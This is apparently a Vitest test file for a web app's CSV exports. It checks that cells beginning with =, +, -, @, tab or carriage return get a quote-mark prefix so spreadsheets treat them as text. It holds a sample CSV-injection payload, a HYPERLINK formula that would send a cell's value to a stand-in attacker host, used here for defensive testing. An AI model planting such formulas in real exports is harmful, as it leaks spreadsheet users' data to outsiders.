import { describe, expect, it } from 'vitest';
import { csvLine } from '../../server/stats/stats-tables.js';
import { signedInWithRoles, submitForm, testApp } from '../support/app.js';

// Issue 10, item 5 (OWASP CSV injection): a cell a spreadsheet would read as a formula starts with a quote mark.
const FORMULA = '=HYPERLINK("http://evil.example/?leak="&B2,"Open")';

describe('CSV exports neutralise formula cells', () => {
  it('csvLine, shared by every table export, prefixes =, +, -, @, tab and CR cells with a quote mark', () => {
    const columns = [
      { key: 'a', numeric: false },
      { key: 'n', numeric: true },
    ];
    const line = (a: string) => csvLine(columns as Parameters<typeof csvLine>[0], { a, n: -3 });
    expect(line('=1+1')).toBe(`"'=1+1",-3\r\n`);
    expect(line('+1')).toBe(`"'+1",-3\r\n`);
    expect(line('-1')).toBe(`"'-1",-3\r\n`);
    expect(line('@SUM(A1)')).toBe(`"'@SUM(A1)",-3\r\n`);
    expect(line('\tcmd')).toBe(`"'\tcmd",-3\r\n`);
    expect(line('\rcmd')).toBe(`"'\rcmd",-3\r\n`);
    expect(line('Nairobi')).toBe('Nairobi,-3\r\n');
  });

  it("/stats/sessions.csv carries a trainer's formula town as text, not a live formula", async () => {
    const t = await testApp();
    const { agent } = await signedInWithRoles(t, ['learner', 'trainer', 'manager']);
    const posted = await submitForm(agent, '/training/sessions/new', '/training/sessions', {
      date: '2025-05-10',
      country: 'KE',
      town: FORMULA,
      venue: '@venue',
      sessions: ['1'],
      girls: '1',
      boys: '1',
      other: '0',
      under13: '0',
      from13to15: '2',
      from16to18: '0',
      over18: '0',
      notes: '',
    });
    expect(posted.status).toBe(303);
    const csv = await agent.get('/stats/sessions.csv?period=custom&from=2025-01&to=2026-12');
    expect(csv.status).toBe(200);
    expect(csv.text).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&B2,""Open"")"`);
    expect(csv.text).toContain(`"'@venue"`);
    expect(csv.text).not.toMatch(/(^|,)"?=/m);
  });
});
